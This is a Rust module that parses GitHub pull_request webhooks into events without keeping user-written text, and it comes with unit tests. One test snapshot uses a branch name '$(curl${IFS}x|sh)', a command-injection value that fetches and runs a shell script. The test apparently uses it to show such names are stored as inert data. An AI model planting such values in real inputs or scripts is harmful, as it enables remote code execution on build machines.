//! The webhook `pull_request`: how a pull request is, without a word of what its people wrote.

use serde::Deserialize;
use serde::de::Deserializer;

use super::payload::{
    Account, HeadRepository, Installation, Payload, RepositoryPayload, Text, Time, each, event, required,
};
use crate::event::{Event, EventKind, EventRepository, PullRequest, PullRequestAction, PullRequestState};
use crate::name::{PullRequestNumber, RepositoryId, UserId};

/// A `pull_request` webhook.
#[derive(Deserialize)]
pub(super) struct PullRequestPayload<'a> {
    #[serde(borrow)]
    action: Option<Text<'a>>,
    #[serde(borrow)]
    pull_request: Option<StatePayload<'a>>,
    #[serde(borrow)]
    repository: Option<RepositoryPayload<'a>>,
    installation: Option<Installation>,
    #[serde(borrow)]
    sender: Option<Account<'a>>,
}

#[derive(Deserialize)]
struct StatePayload<'a> {
    number: Option<u64>,
    #[serde(borrow)]
    state: Option<Text<'a>>,
    merged: Option<bool>,
    draft: Option<bool>,
    #[serde(borrow)]
    base: Option<End<'a>>,
    #[serde(borrow)]
    head: Option<End<'a>>,
    #[serde(borrow)]
    user: Option<Account<'a>>,
    labels: Option<Labels>,
    updated_at: Option<Time>,
}

/// One of the two branches of a pull request.
#[derive(Deserialize)]
struct End<'a> {
    #[serde(borrow, rename = "ref")]
    git_ref: Option<Text<'a>>,
    #[serde(borrow)]
    sha: Option<Text<'a>>,
    repo: Option<HeadRepository>,
}

impl<'a> Payload<'a> for PullRequestPayload<'a> {
    const REQUIRED: &'static [&'static str] = &["opened", "synchronize", "reopened", "closed"];
    const WELCOME: &'static [&'static str] = &[];

    fn action(&self) -> Option<&str> {
        self.action.as_ref().map(Text::as_str)
    }

    fn into_event(self) -> Result<Option<Event>, String> {
        let Some(action) = self.action().and_then(PullRequestAction::from_word) else { return Ok(None) };
        let repository = EventRepository::try_from(required(self.repository, "repository")?)?;
        let now = required(self.pull_request, "pull_request")?.into_state(repository.id)?;
        let kind = EventKind::PullRequest(PullRequest { action, now, sweep: None });
        Ok(Some(event(repository, self.installation, self.sender.as_ref(), kind)))
    }
}

impl StatePayload<'_> {
    fn into_state(self, repository: RepositoryId) -> Result<PullRequestState, String> {
        let base = required(self.base, "pull_request.base")?;
        let head = required(self.head, "pull_request.head")?;
        let open = match required(self.state, "pull_request.state")?.as_str() {
            "open" => true,
            "closed" => false,
            _ => return Err("`pull_request.state` is neither `open` nor `closed`".to_owned()),
        };
        Ok(PullRequestState {
            number: PullRequestNumber(required(self.number, "pull_request.number")?),
            open,
            // Absent from payloads of pull requests in lists, and null where GitHub does not know it yet.
            merged: self.merged.unwrap_or(false),
            draft: self.draft.unwrap_or(false),
            base_branch: required(base.git_ref, "pull_request.base.ref")?.parse("pull_request.base.ref")?,
            head_branch: required(head.git_ref, "pull_request.head.ref")?.parse("pull_request.head.ref")?,
            head_sha: required(head.sha, "pull_request.head.sha")?.parse("pull_request.head.sha")?,
            head: HeadRepository::head(head.repo, repository),
            author: self.user.and_then(|user| user.id).map(UserId),
            keep: self.labels.is_some_and(|labels| labels.keep),
            updated_at: required(self.updated_at, "pull_request.updated_at")?.0,
        })
    }
}

/// The one thing that the labels say: whether the environments of the pull request are to be kept.
struct Labels {
    keep: bool,
}

impl Labels {
    const KEEP: &'static str = "keep";
}

impl<'de> Deserialize<'de> for Labels {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
        #[derive(Deserialize)]
        struct Label<'a> {
            #[serde(borrow)]
            name: Option<Text<'a>>,
        }
        let mut labels = Self { keep: false };
        each(deserializer, |label: Option<Label<'de>>| {
            let name = label.and_then(|label| label.name);
            labels.keep |= name.is_some_and(|name| name.as_str() == Self::KEEP);
        })?;
        Ok(labels)
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::super::sample::{SHA, event, problem, pull_request_body, with, without};
    use super::super::{Webhook, parse};
    use super::*;
    use crate::event::Head;

    fn state(body: &Value) -> PullRequestState {
        match event("pull_request", body).kind {
            EventKind::PullRequest(pull_request) => pull_request.now,
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_pull_request_is_an_event_without_anything_that_a_stranger_wrote() {
        let event = event("pull_request", &pull_request_body());
        insta::assert_snapshot!(serde_json::to_string_pretty(&event.kind).unwrap(), @r#"
        {
          "pull_request": {
            "action": "synchronize",
            "now": {
              "number": 7,
              "open": true,
              "merged": false,
              "draft": false,
              "base_branch": "main",
              "head_branch": "$(curl${IFS}x|sh)",
              "head_sha": "3484a3fb816e0859fd6e1cea078d76385ff50625",
              "head": "same_repository",
              "author": 21031067,
              "keep": false,
              "updated_at": "2026-01-02T03:05:06Z"
            },
            "sweep": null
          }
        }
        "#);
        let stored = serde_json::to_string(&event).unwrap();
        for written in ["a title", "a body", "a label", "bug"] {
            assert!(!stored.contains(written), "{written}: {stored}");
        }
    }

    #[test]
    fn opened_pushed_to_opened_again_and_closed_are_events_and_nothing_else_is() {
        for action in PullRequestAction::ALL {
            let read = event("pull_request", &with(pull_request_body(), "/action", json!(action.as_str())));
            assert_eq!(read.kind.action(), Some(action.as_str()));
        }
        for action in ["edited", "labeled", "converted_to_draft", "stacked", "Opened", "closed "] {
            let ignored = Ok(Webhook::Ignored { action: Some(action.to_owned()) });
            let body = with(pull_request_body(), "/action", json!(action));
            assert_eq!(parse("pull_request", body.to_string().as_bytes()), ignored, "{action}");
            let odd = json!({ "action": action, "pull_request": [7], "repository": null });
            assert_eq!(parse("pull_request", odd.to_string().as_bytes()), ignored, "{action} of an unknown shape");
        }
    }

    #[test]
    fn a_fork_is_recognised_by_its_id_and_a_deleted_one_is_not_taken_for_our_own() {
        for (name, repo, head) in [
            ("our own, renamed", json!({ "id": 11, "full_name": "acme/new" }), Head::SameRepository),
            ("a fork with our name", json!({ "id": 12, "full_name": "acme/api" }), Head::Fork(RepositoryId(12))),
            ("a deleted fork", Value::Null, Head::Unknown),
            ("no id", json!({ "full_name": "acme/api" }), Head::Unknown),
        ] {
            assert_eq!(state(&with(pull_request_body(), "/pull_request/head/repo", repo)).head, head, "{name}");
        }
        assert_eq!(state(&without(pull_request_body(), "/pull_request/head", "repo")).head, Head::Unknown);
    }

    #[test]
    fn only_the_label_keep_keeps() {
        for (labels, keep) in [
            (json!([{ "name": "bug" }, { "name": "keep" }]), true),
            (
                json!([{ "name": "Keep" }, { "name": "keep " }, { "name": "keep\u{200b}" }, { "name": null }, null]),
                false,
            ),
            (json!([{ "description": "keep" }]), false),
            (json!([]), false),
            (Value::Null, false),
        ] {
            let name = labels.to_string();
            assert_eq!(state(&with(pull_request_body(), "/pull_request/labels", labels)).keep, keep, "{name}");
        }
    }

    #[test]
    fn a_closed_one_tells_whether_it_was_merged() {
        let closed = with(pull_request_body(), "/action", json!("closed"));
        let closed = with(closed, "/pull_request/state", json!("closed"));
        let merged = state(&with(closed.clone(), "/pull_request/merged", json!(true)));
        assert!(!merged.open && merged.merged);
        for not_merged in [json!(false), Value::Null] {
            let not_merged = state(&with(closed.clone(), "/pull_request/merged", not_merged));
            assert!(!not_merged.open && !not_merged.merged);
        }
    }

    #[test]
    fn what_is_not_used_or_not_known_may_be_missing_or_null() {
        for key in ["merged", "draft", "user", "labels"] {
            let null = state(&with(pull_request_body(), &format!("/pull_request/{key}"), Value::Null));
            assert_eq!(null, state(&without(pull_request_body(), "/pull_request", key)), "{key}");
        }
        assert_eq!(state(&with(pull_request_body(), "/pull_request/user", Value::Null)).author, None);
        assert_eq!(state(&pull_request_body()).head_sha.as_str(), SHA);
    }

    #[test]
    fn one_that_cannot_be_read_says_why() {
        let wrong =
            |place: &str, value: Value| problem("pull_request", &with(pull_request_body(), place, value).to_string());
        insta::assert_snapshot!([
            wrong("/pull_request", Value::Null),
            wrong("/pull_request/number", Value::Null),
            wrong("/pull_request/number", json!(-7)),
            wrong("/pull_request/state", json!("merged")),
            wrong("/pull_request/base/ref", json!("a\nb")),
            wrong("/pull_request/head/ref", json!("x".repeat(300))),
            wrong("/pull_request/head/sha", json!("main")),
            wrong("/pull_request/updated_at", Value::Null),
            wrong("/repository", Value::Null),
        ].join("\n"), @r"
        the body is not a `pull_request` payload: `pull_request` is missing
        the body is not a `pull_request` payload: `pull_request.number` is missing
        the body is not a `pull_request` payload: invalid value: integer `-7`, expected u64 at line 1 column 410
        the body is not a `pull_request` payload: `pull_request.state` is neither `open` nor `closed`
        the body is not a `pull_request` payload: `pull_request.base.ref`: `a\u{a}b` is not a branch name
        the body is not a `pull_request` payload: `pull_request.head.ref`: `xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx` is not a branch name
        the body is not a `pull_request` payload: `pull_request.head.sha`: `main` is not a commit (40 lowercase hexadecimal digits)
        the body is not a `pull_request` payload: `pull_request.updated_at` is missing
        the body is not a `pull_request` payload: `repository` is missing
        ");
    }
}
